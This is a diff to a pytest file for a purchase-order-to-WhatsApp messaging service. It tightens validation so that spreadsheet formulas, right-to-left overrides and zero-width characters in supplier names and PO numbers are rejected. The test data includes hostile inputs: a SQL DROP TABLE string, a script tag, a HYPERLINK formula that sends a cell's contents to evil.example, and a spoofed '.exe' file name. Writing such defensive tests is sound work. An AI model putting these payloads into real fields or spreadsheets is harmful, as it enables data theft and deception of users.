@@ -132,16 +132,15 @@ INJECTIONS = [
     "Robert'); DROP TABLE whatsapp_messages; --",
     "{{1}} {{supplier_name}} {{total_amount}}",
     "<script>alert('x')</script>",
-    '=HYPERLINK("http://evil.example/?"&A1)',
-    "\u202eFDP.exe",  # right-to-left override
     "Ñandú 🐦 株式会社",
+    "Ana = Bea + Co",  # an equals sign inside a name is not a formula
     "x" * 200,
 ]
 
 
 @pytest.mark.parametrize("hostile", INJECTIONS)
 def test_hostile_text_is_stored_and_sent_as_plain_text(po_templates: Engine, hostile: str) -> None:
-    """SQL, template placeholders, markup and formulas in the supplier's name are data:
+    """SQL, template placeholders and markup in the supplier's name are data:
     the row holds them verbatim, they reach the supplier as literal text, nothing else
     is touched."""
     event = po_event()
@@ -179,6 +178,25 @@ def test_hostile_text_is_stored_and_sent_as_plain_text(po_templates: Engine, hos
         ("total.amount", "9" * 5000, "is 5,000 characters long; that is not an amount"),
         ("event_id", "e" * 129, "event_id is too long"),
         ("document_url", "javascript:alert(1)", "document_url: must be an http(s) URL"),
+        (
+            "supplier.name",
+            "A\u202eLIAME\u200b",
+            "supplier.name: contains a right-to-left override (U+202E) at position 2",
+        ),
+        ("supplier.name", "\u202eFDP.exe", "(U+202E) at position 1"),
+        (
+            "supplier.name",
+            '=HYPERLINK("http://evil.example/?"&A1)',
+            "supplier.name: starts with '=' like a spreadsheet formula",
+        ),
+        ("supplier.name", "@SUM(A1)", "like a spreadsheet formula"),
+        ("po.number", "=1+2", "po.number: starts with '=' like a spreadsheet formula"),
+        (
+            "po.number",
+            "45\u200b001",
+            "po.number: contains a zero-width space (U+200B) at position 3",
+        ),
+        ("po.number", "\u2067450\u2069", "right-to-left isolate (U+2067) at position 1"),
     ],
 )
 def test_hostile_fields_are_rejected_with_the_reason_or_made_harmless(
@@ -238,3 +256,27 @@ def test_amounts_in_other_currencies_follow_the_currency_and_language(
     [row] = outbox(po_templates)
     assert body_parameters(row)["total_amount"] == "¥98,765"
     assert body_parameters(row)["currency"] == ("JPY", 98765000)
+
+
+@pytest.mark.parametrize("source", ["http", "rabbitmq"])
+def test_hidden_characters_and_formulas_from_an_erp_write_nothing(
+    po_templates: Engine, source: str
+) -> None:
+    for name, number in [("A\u202eLIAME\u200b", "PO-H1"), ("Ana", "=1+2")]:
+        event = po_event()
+        event["supplier"]["name"], event["po"]["number"] = name, number
+        result = handle_po_event(json.dumps(event).encode(), engine=po_templates, source=source)
+        assert result.status == "rejected" and len(result.problems) == 1, result.problems
+    assert outbox(po_templates) == []
+    with Session(po_templates) as session:
+        assert session.exec(select(Supplier)).all() == []
+
+
+def test_non_breaking_spaces_from_an_erp_are_sent_as_one_space(po_templates: Engine) -> None:
+    event = po_event()
+    event["supplier"]["name"] = "Aceros\u00a0\u00a0del\u202fNorte"
+    event["po"]["number"] = "4500\u00a0012345"
+    assert handle_po_event(event, engine=po_templates, source="http").status == "enqueued"
+    [row] = outbox(po_templates)
+    assert body_parameters(row)["supplier_name"] == "Aceros del Norte"
+    assert row.po_number == "4500 012345"
